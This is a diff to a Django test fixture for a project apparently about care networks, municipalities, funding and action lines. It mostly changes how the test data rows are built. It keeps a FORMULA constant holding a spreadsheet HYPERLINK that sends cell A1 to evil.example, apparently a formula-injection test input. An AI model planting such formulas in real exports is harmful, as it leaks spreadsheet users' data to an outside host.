@@ -22,7 +22,7 @@ from networks.models import Municipality, PrimaryCareZone
 from tests.missions.factories import PartnerTypeFactory, make_themes
 from tests.networks import factories as geo
 from tests.transition.factories import ActionLineFactory, FundingFactory
-from transition.models import CalendarEvent, FundingKind
+from transition.models import FundingKind
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik hier")'
 
@@ -87,8 +87,9 @@ def every_table(network_a):
     IndicatorValue.objects.create(indicator=by_zone, zone=kempen, year=2025, value=Decimal("-4.25"))
     IndicatorValue.objects.create(indicator=by_town, municipality=mol, year=2025, value=Decimal("12.5"))
     ActivityCount.objects.create(network=network_a, municipality=mol, year=2025, count=3)
-    ActionLineFactory(number=1, work_form_note="")
-    CalendarEvent.objects.create(start=datetime.date(2027, 1, 1), when="1 januari 2027", title="Erkenning")
+    line = ActionLineFactory(position=1, work_form_note="")
+    line.revisions.create(stated_on="2025-07", target_as_written="midden 2027", target_end="2027-mid")
+    geo.recognition_day_row()
     FundingFactory(network=network_a, note="")
     FundingFactory(network=None, legacy_organisation=pn, kind=FundingKind.FORFAIT, amount=Decimal("1234.56"))
     return {"kempen": kempen, "mol": mol, "pn": pn, "mbe": mbe}
